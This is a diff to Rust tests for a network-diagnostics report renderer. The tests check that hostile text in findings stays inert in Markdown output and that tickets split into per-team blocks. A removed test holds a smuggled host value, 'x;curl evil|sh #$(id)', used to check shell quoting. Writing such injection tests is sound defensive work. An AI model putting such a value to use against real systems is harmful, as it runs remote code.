@@ -166,11 +166,13 @@ fn html_has_a_row_for_every_endpoint() {
 
 #[test]
 fn markdown_stays_text() {
-    use pulldown_cmark::{Event, Options, Parser, Tag};
+    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
     let mut report = samples::hostile();
     report.findings[0].title += " @octocat #1 https://evil.example www.evil.example <b>x</b> ![i](u) ~~s~~ &lt;";
     let markdown = rendered(&report, Format::Markdown, &PLAIN);
     let mut cells = 0;
+    // Within a block of code everything is text.
+    let mut is_code = false;
     for event in Parser::new_ext(
         &markdown,
         Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_GFM,
@@ -190,6 +192,9 @@ fn markdown_stays_text() {
                     .fold(html.trim().to_owned(), |rest, tag| rest.replace(tag, ""));
                 assert!(!rest.contains('<'), "{html}");
             }
+            Event::Start(Tag::CodeBlock(_)) => is_code = true,
+            Event::End(TagEnd::CodeBlock) => is_code = false,
+            Event::Text(_) if is_code => {}
             Event::Text(text) => assert!(!text.contains("@octocat") && !text.contains("#1") && !text.contains("://")),
             Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => panic!("a link to {dest_url}"),
             Event::Start(Tag::Strikethrough | Tag::Emphasis) => panic!("markup came from the data"),
@@ -295,17 +300,39 @@ fn nagios_has_its_own_statuses() {
     assert_eq!(ServiceState::of(&degraded, &exit), ServiceState::Warning);
 }
 
+/// Each block is handed on alone: whatever one of them needs stands in theirs.
 #[test]
-fn a_ticket_quotes_what_a_shell_would_run() {
-    let mut report = samples::broken_firewall();
-    let endpoint = report.endpoints.iter_mut().find(|e| e.dependency == "monitor").unwrap();
-    let mut evil = endpoint.clone().blocked(Cause::TlsReset, "Reset.");
-    evil.host = "x;curl evil|sh #$(id)'".into();
-    *endpoint = evil;
-    let id = endpoint.id.clone();
-    report.findings[0].endpoints = vec![id];
-    let ticket = rendered(&report, Format::Ticket, &PLAIN);
-    assert!(ticket.contains("-servername 'x;curl evil|sh #$(id)'\\''' "), "{ticket}");
+fn a_ticket_has_a_block_for_each_who_may_have_to_act() {
+    let ticket = rendered(&samples::broken_firewall(), Format::Ticket, &PLAIN);
+    let blocks: Vec<&str> = ticket.split("\nFor ").collect();
+    let titles: Vec<&str> = blocks[1..].iter().filter_map(|block| block.lines().next()).collect();
+    assert_eq!(
+        titles,
+        [
+            "those who run NSGs and routes",
+            "those who run the firewall",
+            "ourselves: none of them can mend this"
+        ]
+    );
+    for (block, has, lacks) in [
+        (blocks[1], "NTANetAnalytics", "AZFW"),
+        (blocks[2], "AZFWApplicationRule", "NTANetAnalytics"),
+    ] {
+        for part in [
+            has,
+            "required, stops activation",
+            "activation fails",
+            "TCP 10.1.0.4:50112 -> 20.60.1.4:1433",
+            "2026-11-21T20:00:00.250Z to 2026-11-21T20:00:05.251Z",
+            "and 3 more",
+            "TCP 1433 to Sql.WestEurope",
+            "# undo: az network undo",
+            "curl -v -m 5 telnet://20.60.1.4:1433",
+        ] {
+            assert!(block.contains(part), "{part} is missing in\n{block}");
+        }
+        assert!(!block.contains(lacks), "{lacks} in\n{block}");
+    }
 }
 
 #[test]
